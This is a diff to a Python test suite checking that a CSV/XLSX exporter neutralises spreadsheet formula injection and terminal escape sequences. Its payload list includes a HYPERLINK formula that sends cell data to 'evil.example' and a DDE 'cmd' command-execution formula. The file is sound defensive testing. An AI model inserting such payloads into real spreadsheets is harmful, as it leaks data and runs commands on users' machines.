@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import time
 from pathlib import Path
 
 import openpyxl
@@ -32,6 +33,8 @@ FORMULAS = [
     "\u200b=1+1",
     "\u00a0=1+1",
     "＝1+1",
+    "\ufffe=1+1",
+    "\uffff\x80=1+1",
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "=cmd|' /C calc'!A0",
 ]
@@ -139,7 +142,7 @@ def test_no_cell_of_a_sheet_is_a_formula_wherever_it_stands(tmp_path, text, kind
     found = [cell for row in cells(path) for cell in row]
     assert "f" not in {kind for _, kind in found}
     assert not any(
-        isinstance(value, str) and value.strip("\0\x07\x1f \t\r\n\ufeff\u200b")[:1] in tuple("=+-@＝")
+        isinstance(value, str) and value.strip("\0\x07\x1f\x80 \t\r\n\ufeff\u200b")[:1] in tuple("=+-@＝")
         for value, _ in found
     )
 
@@ -168,7 +171,45 @@ def test_any_words_can_be_written_and_none_becomes_a_formula(tmp_path_factory, w
 def test_no_line_inside_a_text_begins_a_line_of_the_file():
     table = pd.DataFrame({"comment": ["thanks\r=1+1", "thanks\r\n=1+1"], "tags": [["a\r=1+1"], []]})
     assert "\r" not in to_csv_text(table)
-    assert pd.read_csv(io.StringIO(to_csv_text(table)))["comment"].tolist() == ["thanks\n=1+1"] * 2
+    assert pd.read_csv(io.StringIO(to_csv_text(table)))["comment"].tolist() == ["thanks\n'=1+1"] * 2
+
+
+def written(words: str, path: Path) -> str:
+    """The words as a CSV file has them, behind a first column as most tables have one."""
+    return pd.read_csv(export(pd.DataFrame({"n": [1], "words": [words]}), path))["words"][0]
+
+
+@pytest.mark.parametrize("separator", [";", "\t", "\n", "|", "; ", ";\u200b\x00", ";\n\n\t", '; "', ';""'])
+@pytest.mark.parametrize("sign", list("=+-@＝＋－＠"))
+def test_where_another_countrys_excel_begins_a_cell_there_is_no_formula_either(tmp_path, separator, sign):
+    words = f"thanks{separator}{sign}1+1"
+    assert written(words, tmp_path / "t.csv") == f"thanks{separator}'{sign}1+1"
+    (_, (_, (in_xlsx, _))) = cells(export(pd.DataFrame({"n": [1], "words": [words]}), tmp_path / "t.xlsx"))
+    assert in_xlsx == words.replace("\x00", "")
+
+
+@pytest.mark.parametrize(
+    "words", ["a-b", "x; y", "x;y=1", "a | b - c", "so\n1. = one", '"-" and "+"', "5 - 3;"]
+)
+def test_ordinary_words_stand_in_a_csv_as_they_were_written(tmp_path, words):
+    assert written(words, tmp_path / "t.csv") == words
+
+
+def test_a_heading_and_a_list_begin_no_cell_within_either():
+    text = to_csv_text(pd.DataFrame({"a;=1": ["x"], "tags": [["a;", "=1"]]}))
+    assert text == "a;'=1,tags\nx,a; '=1\n"
+
+
+def test_a_comment_of_blank_lines_takes_no_time():
+    table = pd.DataFrame({"comment": ["x" + "\n" * 200_000 + "y"]})
+    started = time.monotonic()
+    to_csv_text(table)
+    assert time.monotonic() - started < 5
+
+
+def test_no_terminal_is_told_what_to_do():
+    table = pd.DataFrame({"comment": ["\x1b]0;owned\x07red \x1b[31m\x9b2J\x00\ttab\nline\x7f"], "n": [1]})
+    assert to_csv_text(table) == 'comment,n\n"]0;ownedred [31m2J\ttab\nline",1\n'
 
 
 def test_numbers_below_zero_stay_numbers(tmp_path):
